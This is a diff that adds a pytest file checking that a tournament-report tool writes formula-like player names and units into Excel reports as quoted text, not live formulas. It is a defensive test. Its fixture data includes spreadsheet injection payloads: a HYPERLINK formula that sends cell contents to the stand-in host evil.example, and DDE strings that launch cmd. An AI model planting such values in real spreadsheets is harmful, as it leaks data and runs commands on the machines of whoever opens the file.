@@ -1,0 +1,111 @@
+"""Spreadsheet formula injection (issue 12): a name or unit that looks like a formula is
+written into every .xlsx report as text, never as a live formula.
+
+The workbooks are read back with openpyxl without computing anything (data_only=False):
+a cell of data_type "f" would be a formula Excel/WPS runs when the file is opened.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+
+from reports import EXCEL_KINDS, build_report
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"点我领奖")',
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+)
+HOSTILE_UNIT = "=cmd|' /C notepad'!A1"
+
+
+def _rename(node: Any, renames: dict[str, str]) -> Any:
+    if isinstance(node, dict):
+        return {key: _rename(value, renames) for key, value in node.items()}
+    if isinstance(node, list):
+        return [_rename(value, renames) for value in node]
+    if isinstance(node, str):
+        return renames.get(node, node)
+    return node
+
+
+@pytest.fixture
+def hostile_go(go: dict[str, Any]) -> dict[str, Any]:
+    """The finished Go final, its top seeds renamed to formulas, one unit too."""
+    renames: dict[str, str] = {}
+    for event in go["events"]:
+        for entrant, name in zip(event["entrants"], HOSTILE_NAMES, strict=False):
+            if event["kind"] == "individual":
+                renames.setdefault(entrant["name"], name)
+            elif event["kind"] == "pair":  # a pair is printed as its players' names
+                renames.setdefault(entrant["members"][0], name)
+    men = next(e for e in go["events"] if e["code"] == "MEN")
+    renames[men["entrants"][0]["unit"]] = HOSTILE_UNIT
+    return _rename(go, renames)
+
+
+ARGS = {
+    "pairings": {"event": "MEN", "round": 9},
+    "standings": {"event": "MEN"},
+    "crosstable": {"event": "MEN"},
+    "teams": {},
+    "pairs": {},
+    "prizes": {},
+}
+
+
+@pytest.mark.parametrize("kind", EXCEL_KINDS)
+def test_no_report_cell_is_a_formula_made_from_user_text(tmp_path: Path, hostile_go, kind) -> None:
+    out = build_report(hostile_go, kind, tmp_path / f"{kind}.xlsx", **ARGS[kind])
+    texts: set[str] = set()
+    for ws in load_workbook(out).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (kind, ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+                    if cell.value[:1] in "=+-@" and len(cell.value) > 1:
+                        # Kept as text even when someone edits the cell in Excel/WPS.
+                        assert cell.quotePrefix, (kind, cell.coordinate, cell.value)
+    hostile = set(HOSTILE_NAMES) | {HOSTILE_UNIT}
+    if kind in ("pairings", "standings", "crosstable", "pairs", "prizes"):
+        # The names are printed exactly as registered, as text.
+        assert any(name in text for name in hostile for text in texts), (kind, sorted(texts)[:20])
+        assert any(text[:1] in "=+-@" for text in texts)
+
+
+def test_a_formula_name_from_the_registration_sheet_is_text_in_the_reports(tmp_path: Path) -> None:
+    """End to end: the name arrives in a CSV, is imported, paired, and printed to Excel."""
+    from app.io.export_json import build_export
+    from app.services.registration import import_sheet
+    from app.services.rounds import pair_next
+    from app.services.tournament import create_tournament
+
+    link = '=HYPERLINK("http://evil.example/?"&A1,"张三")'
+    sheet = tmp_path / "报名表.csv"
+    sheet.write_text(
+        "姓名,性别,出生日期,单位,项目\n"
+        f'"{link.replace(chr(34), chr(34) * 2)}",男,1990-01-01,@SUM(A1:A2),公开组\n'
+        "李四,男,1990-01-02,杭州棋院,公开组\n",
+        encoding="utf-8",
+    )
+    db = create_tournament(tmp_path / "g.finals", "shaoxing-gomoku-2022")
+    try:
+        import_sheet(db, sheet)
+        pair_next(db, "OPEN")
+        doc = build_export(db)
+    finally:
+        db.close()
+    for kind, args in (("pairings", {"event": "OPEN", "round": 1}),
+                       ("standings", {"event": "OPEN"}), ("crosstable", {"event": "OPEN"})):
+        out = build_report(doc, kind, tmp_path / f"{kind}.xlsx", **args)
+        cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
+        assert link in [c.value for c in cells], kind
+        assert "@SUM(A1:A2)" in [c.value for c in cells], kind
